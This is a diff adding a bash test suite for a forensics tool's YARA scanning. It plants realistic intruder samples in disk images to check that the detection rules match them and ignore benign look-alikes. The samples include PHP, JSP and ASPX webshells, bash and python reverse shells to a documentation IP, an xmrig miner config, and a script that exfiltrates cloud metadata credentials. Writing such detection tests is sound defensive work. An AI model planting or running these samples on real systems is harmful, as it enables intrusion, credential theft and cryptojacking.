@@ -1,0 +1,256 @@
+#!/usr/bin/env bash
+# YARA in `forensics examine` (docs/forensics.md, "YARA"): the shipped
+# ruleset finds what an intruder leaves, and only that.
+#  - realistic samples planted in an ext4 image after its baseline: a PHP
+#    eval/base64 webshell, a JSP cmd shell, a bash /dev/tcp reverse shell, a
+#    python socket reverse shell, an xmrig config, a script curling the
+#    metadata credentials path, an ASPX cmd shell; each matched by its rule,
+#    in report.json, report.md, the manifest line and the result line; the
+#    benign look-alikes planted beside them match nothing;
+#  - the default scope reads only new and changed files; --yara-scope all
+#    reads the rest; off runs nothing; without a baseline the writable places
+#    and scripts are read;
+#  - a user rules directory joins the shipped rules; a rule that does not
+#    compile is exit 2 naming file and line, before any evidence is touched;
+#  - XFS: the files are read through the read-only mount;
+#  - the result line stays under SSM's limit with two volumes of matches;
+#  - a file over --yara-max-file is scanned only that far and counted;
+#    a path through a symlink is never followed out of the image;
+#  - matched bytes from the image are shown escaped.
+source "$(dirname "$0")/lib.sh"
+[ -z "${KEEP:-}" ] || trap - EXIT
+
+examine() {
+  local name=$1; shift
+  local rc=0
+  timeout 120 "$SG" forensics examine --progress off "$@" >"$WORK/$name.out" 2>"$WORK/$name.err" || rc=$?
+  echo $rc >"$WORK/$name.rc"
+}
+rc_of() { cat "$WORK/$1.rc"; }
+# matched PATH RULE REPORT: does the report say PATH matched RULE?
+matched() {
+  $PY - "$3" "$1" "$2" <<'PY'
+import json, sys
+r = json.load(open(sys.argv[1]))
+hits = {(m["path"], x["namespace"] + "." + x["rule"])
+        for ev in r["evidence"] for m in ev["yara"]["matches"] for x in m["rules"]}
+sys.exit(0 if (sys.argv[2], sys.argv[3]) in hits else 1)
+PY
+}
+nmatches() { jget "$1" 'sum(len(ev["yara"].get("matches", [])) for ev in r["evidence"])'; }
+
+# ---- the deployed system, and its baseline ----
+T=$WORK/tree
+mkdir -p "$T"/{etc/cron.d,var/www/html/app,opt/app/webapps/ROOT,usr/bin,root,home/deploy/bin,tmp,var/tmp,srv/www}
+printf 'root:x:0:0:root:/root:/bin/bash\n' >"$T/etc/passwd"
+printf 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n' >"$T/etc/crontab"
+cat >"$T/var/www/html/index.php" <<'EOF'
+<?php
+// benign: prints request input (escaped) and runs a fixed command
+$name = htmlspecialchars($_GET['name'] ?? 'world');
+echo "hello $name";
+$uptime = shell_exec('uptime');
+echo base64_encode($uptime);
+EOF
+cat >"$T/opt/app/webapps/ROOT/status.jsp" <<'EOF'
+<%@ page import="java.io.*" %>
+<% String who = request.getParameter("who"); out.println("hi " + who); %>
+<% Process p = Runtime.getRuntime().exec(new String[]{"/usr/bin/uptime"}); %>
+EOF
+cat >"$T/home/deploy/bin/health.py" <<'EOF'
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("127.0.0.1", 8080))
+s.sendall(b"GET /healthz HTTP/1.0\r\n\r\n")
+print(s.recv(100))
+EOF
+cat >"$T/home/deploy/bin/backup.sh" <<'EOF'
+#!/bin/sh
+# benign: the instance's own region, and a backup with the role's credentials
+region=$(curl -s http://169.254.169.254/latest/meta-data/placement/region)
+aws s3 cp /var/backups/db.gz "s3://example-backups/$region/"
+EOF
+echo '{"name": "app", "version": "1.2.3", "dependencies": {"left-pad": "1.0"}}' \
+  >"$T/srv/www/package.json"
+cp /usr/bin/true "$T/usr/bin/ps"
+find "$T" -exec touch -h -d '2026-11-01 09:00:00 UTC' {} +
+mkfs.ext4 -q -F -d "$T" "$WORK/clean.img" 32M
+"$SG" forensics baseline --device "$WORK/clean.img" --out "$WORK/base.jsonl" --progress off >/dev/null
+
+# ---- what the intruder left ----
+cat >"$T/var/www/html/app/up.php" <<'EOF'
+<?php @eval(base64_decode($_POST['z0'])); ?>
+EOF
+cat >"$T/opt/app/webapps/ROOT/cmd.jsp" <<'EOF'
+<%@ page import="java.util.*,java.io.*"%>
+<%
+if (request.getParameter("cmd") != null) {
+    Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));
+    OutputStream os = p.getOutputStream();
+    InputStream in = p.getInputStream();
+    DataInputStream dis = new DataInputStream(in);
+    String disr = dis.readLine();
+    while (disr != null) { out.println(disr); disr = dis.readLine(); }
+}
+%>
+EOF
+cat >"$T/var/www/html/app/shell.aspx" <<'EOF'
+<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %>
+<script runat="server">
+void Page_Load(object s, EventArgs e) {
+  ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + Request["c"]);
+  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
+  Process p = Process.Start(psi);
+  Response.Write(p.StandardOutput.ReadToEnd());
+}
+</script>
+EOF
+printf '#!/bin/bash\nwhile true; do bash -i >& /dev/tcp/198.51.100.7/4444 0>&1; sleep 60; done\n' \
+  >"$T/tmp/.x.sh"
+mkdir -p "$T/home/deploy/.cache"
+cat >"$T/home/deploy/.cache/rs.py" <<'EOF'
+import socket, subprocess, os
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("198.51.100.7", 4445))
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+os.dup2(s.fileno(), 2)
+p = subprocess.call(["/bin/sh", "-i"])
+EOF
+mkdir -p "$T/var/tmp/.cfg"
+cat >"$T/var/tmp/.cfg/config.json" <<'EOF'
+{
+    "autosave": true,
+    "donate-level": 0,
+    "cpu": {"enabled": true, "huge-pages": true},
+    "randomx": {"init": -1, "mode": "auto"},
+    "pools": [
+        {
+            "algo": "rx/0",
+            "coin": "monero",
+            "url": "pool.supportxmr.example:3333",
+            "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
+            "pass": "x",
+            "tls": false
+        }
+    ]
+}
+EOF
+cat >"$T/root/.s.sh" <<'EOF'
+#!/bin/sh
+R=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)
+curl -s "http://169.254.169.254/latest/meta-data/iam/security-credentials/$R" -o /tmp/.c
+curl -s -X POST --data-binary @/tmp/.c http://198.51.100.9/c
+EOF
+chmod 755 "$T/root/.s.sh" "$T/tmp/.x.sh"
+printf '<?php system($_GET["c"]); ?>\n' >"$T/var/www/html/app/esc.php"
+# hostile bytes in a matched string: shown escaped, never raw
+printf 'bash -i >& /dev/tcp/evil\x1b[31m.example/4444 0>&1\n' >"$T/tmp/.y.sh"
+# a file larger than the cap: the match sits past the first MiB
+head -c 1500000 /dev/zero | tr '\0' 'A' >"$T/var/www/html/app/big.php"
+echo '<?php eval(base64_decode($_REQUEST["q"])); ?>' >>"$T/var/www/html/app/big.php"
+# a symlink out of the image's tree
+ln -s /etc/shadow "$T/var/www/html/app/link.php"
+touch -h -d '2026-12-04 03:12:00 UTC' "$T/var/www/html/app/up.php" "$T/tmp/.x.sh"
+mkfs.ext4 -q -F -d "$T" "$WORK/victim.img" 32M
+
+examine v --device "$WORK/victim.img" --baseline "$WORK/base.jsonl" --out "$WORK/o-v" \
+  --yara-max-file 1 --incident-time 2026-12-04T04:00:00Z
+R=$WORK/o-v/report.json
+check "victim: exit 0" test "$(rc_of v)" = 0
+for pr in "/var/www/html/app/up.php webshells.php_webshell_encoded_eval" \
+          "/opt/app/webapps/ROOT/cmd.jsp webshells.jsp_webshell_cmd" \
+          "/var/www/html/app/shell.aspx webshells.aspx_webshell_cmd" \
+          "/tmp/.x.sh reverse_shells.bash_dev_tcp_reverse_shell" \
+          "/tmp/.y.sh reverse_shells.bash_dev_tcp_reverse_shell" \
+          "/home/deploy/.cache/rs.py reverse_shells.python_socket_reverse_shell" \
+          "/var/tmp/.cfg/config.json miners.xmrig_config" \
+          "/root/.s.sh credential_harvesters.imds_credentials_fetch_script" \
+          "/root/.s.sh credential_harvesters.imds_credentials_exfil_script" \
+          "/var/www/html/app/esc.php webshells.php_webshell_request_exec"; do
+  set -- $pr
+  check "sample $1 matched by $2" matched "$1" "$2" "$R"
+done
+check "the big file's match past the cap is not claimed" bash -c "! grep -q 'big.php' '$WORK/o-v/victim.img/manifest.jsonl' || ! grep 'big.php' '$WORK/o-v/victim.img/manifest.jsonl' | grep -q yara"
+check "the big file is counted as cut" test "$(jget "$R" 'r["evidence"][0]["yara"]["truncated"]')" = 1
+check "scope changed: only new and changed files read (10 added)" test "$(jget "$R" 'r["evidence"][0]["yara"]["selected"]')" = 10
+check "benign look-alikes (unchanged) not read, so not matched" bash -c "! grep -q 'index.php\|status.jsp\|health.py\|backup.sh' <($PY -c 'import json,sys; print(json.dumps(json.load(open(sys.argv[1]))[\"evidence\"][0][\"yara\"]))' $R)"
+check "matched bytes escaped in report.json" grep -qF 'evil\\x1b[31m.example' "$R"
+check "no raw ESC in report.md" bash -c "! grep -q $'\x1b' '$WORK/o-v/report.md'"
+check "report.md: YARA section with the JSP rule" grep -q 'webshells.jsp_webshell_cmd' "$WORK/o-v/report.md"
+check "manifest line carries the rule" grep -q '"path":"/tmp/.x.sh".*"yara":\["reverse_shells.bash_dev_tcp_reverse_shell"\]' "$WORK/o-v/victim.img/manifest.jsonl"
+check "result line: the yara digest names the webshell" grep -q '"yara":{"scope":"changed","status":"complete","scanned":[0-9]*,"matched":9,"matches":\[.*"path":"/var/www/html/app/up.php"' "$WORK/v.out"
+check "result line: the persistence places" grep -q '"persistence":\[{"kind":"cron","path":"/etc/crontab","baseline":"unchanged"}' "$WORK/v.out"
+check "the symlink was not read" bash -c "! grep -q 'link.php' <($PY -c 'import json,sys; print(json.dumps(json.load(open(sys.argv[1]))[\"evidence\"][0][\"yara\"][\"matches\"]))' $R)"
+check "timeline around the incident marks the webshell" $PY -c "
+import json,sys
+w = json.load(open('$R'))['evidence'][0]['incident_window']
+hot = [e for e in w['events'] if e['path'] == '/var/www/html/app/up.php' and e.get('finding') == 'added' and e.get('yara')]
+sys.exit(0 if hot and w['incident_time'] == '2026-12-04T04:00:00Z' else 1)"
+
+# ---- the shipped rules over the clean image: nothing, whatever the scope ----
+examine all --device "$WORK/clean.img" --yara-scope all --out "$WORK/o-all"
+check "clean image, scope all: every file read" test "$(jget "$WORK/o-all/report.json" 'r["evidence"][0]["yara"]["scanned"]')" = 8
+check "clean image, scope all: benign look-alikes match nothing" test "$(nmatches "$WORK/o-all/report.json")" = 0
+examine off --device "$WORK/victim.img" --baseline "$WORK/base.jsonl" --yara-scope off --out "$WORK/o-off"
+check "scope off: nothing scanned" test "$(jget "$WORK/o-off/report.json" 'r["evidence"][0]["yara"]["scope"]')" = off
+check "scope off: no rules compiled" test "$(jget "$WORK/o-off/report.json" 'r.get("yara")')" = None
+examine nobase --device "$WORK/victim.img" --out "$WORK/o-nobase"
+check "no baseline: samples in writable places still found" matched /tmp/.x.sh reverse_shells.bash_dev_tcp_reverse_shell "$WORK/o-nobase/report.json"
+check "no baseline: root's script found" matched /root/.s.sh credential_harvesters.imds_credentials_fetch_script "$WORK/o-nobase/report.json"
+
+# ---- user rules ----
+mkdir -p "$WORK/rules"
+cat >"$WORK/rules/local.yar" <<'EOF'
+rule local_marker { meta: description = "our own marker" strings: $m = "hello $name" condition: $m }
+EOF
+examine user --device "$WORK/victim.img" --yara-scope all --yara-rules "$WORK/rules" --out "$WORK/o-user"
+check "user rules dir: its rule matches" matched /var/www/html/index.php local.local_marker "$WORK/o-user/report.json"
+check "user rules dir: the shipped rules still run" matched /tmp/.x.sh reverse_shells.bash_dev_tcp_reverse_shell "$WORK/o-user/report.json"
+examine only --device "$WORK/victim.img" --yara-scope all --no-yara-shipped --yara-rules "$WORK/rules/local.yar" --out "$WORK/o-only"
+check "--no-yara-shipped: only the user's rule" test "$(nmatches "$WORK/o-only/report.json")" = 1
+printf 'rule ok { condition: true }\n\nrule broken {\n  strings: $a = "x"\n  condition: $a and $nope\n}\n' >"$WORK/rules/broken.yar"
+examine bad --device "$WORK/victim.img" --yara-rules "$WORK/rules" --out "$WORK/o-bad"
+check "broken rule: exit 2" test "$(rc_of bad)" = 2
+check "broken rule: error names file and line" grep -q 'broken.yar:6: undefined string "$nope"' "$WORK/bad.err"
+check "broken rule: result line is an error" test "$(jline 'r["status"]' <"$WORK/bad.out")" = error
+check "broken rule: no output directory made" test ! -e "$WORK/o-bad"
+examine missing --device "$WORK/victim.img" --yara-rules "$WORK/nowhere" --out "$WORK/o-missing"
+check "missing rules path: exit 2, named" bash -c "test $(rc_of missing) = 2 && grep -q nowhere '$WORK/missing.err'"
+
+# ---- XFS (the root of Amazon Linux): files read through the read-only mount ----
+truncate -s 320M "$WORK/x.img"
+mkfs.xfs -q -f "$WORK/x.img"
+mount_rw "$WORK/x.img" "$WORK/xm"
+mkdir -p "$WORK/xm/var/www/html"
+cp "$T/var/www/html/app/up.php" "$WORK/xm/var/www/html/up.php"
+ln -s /etc/passwd "$WORK/xm/var/www/html/p.php"
+unmount "$WORK/xm"
+examine xfs --device "$WORK/x.img" --out "$WORK/o-xfs"
+check "XFS: the webshell matched" matched /var/www/html/up.php webshells.php_webshell_encoded_eval "$WORK/o-xfs/report.json"
+check "XFS: YARA complete (nothing unreadable), the symlink not read" test "$(jget "$WORK/o-xfs/report.json" '(r["evidence"][0]["yara"]["status"], r["evidence"][0]["yara"]["scanned"])')" = "('complete', 1)"
+
+# ---- the result line stays under SSM's 24,000 characters ----
+# 400 webshells on each of two volumes (410 matching files with the samples
+# above and big.php, read whole at the default cap): every list cut to its share
+mkdir -p "$T/var/www/html/many"
+for i in $(seq 1 400); do
+  echo '<?php @eval(base64_decode($_POST["z0"])); ?>' >"$T/var/www/html/many/a-rather-long-name-for-a-webshell-$i.php"
+done
+mkfs.ext4 -q -F -d "$T" "$WORK/many1.img" 32M
+cp "$WORK/many1.img" "$WORK/many2.img"
+examine many --device "$WORK/many1.img" --device "$WORK/many2.img" --baseline "$WORK/base.jsonl" --out "$WORK/o-many"
+check "two volumes, 400 webshells each: exit 0" test "$(rc_of many)" = 0
+check "two volumes: the result line is under 24,000 characters" test "$(head -c 30000 "$WORK/many.out" | wc -c)" -lt 24000
+check "two volumes: every match counted, those cut as omitted" $PY -c "
+import json, sys
+r = json.loads(open('$WORK/many.out').readline())
+for ev in r['evidence']:
+    y = ev['yara']
+    assert y['matched'] == 410 and len(y['matches']) + y['matches_omitted'] == 410 and y['matches_omitted'] > 0, y['matched']
+    assert len(ev['top_findings']) + ev['findings_omitted'] == ev['findings']
+"
+
+[ "$FAILS" -eq 0 ] || { echo "$FAILS checks failed"; exit 1; }
+echo "all yara checks passed"
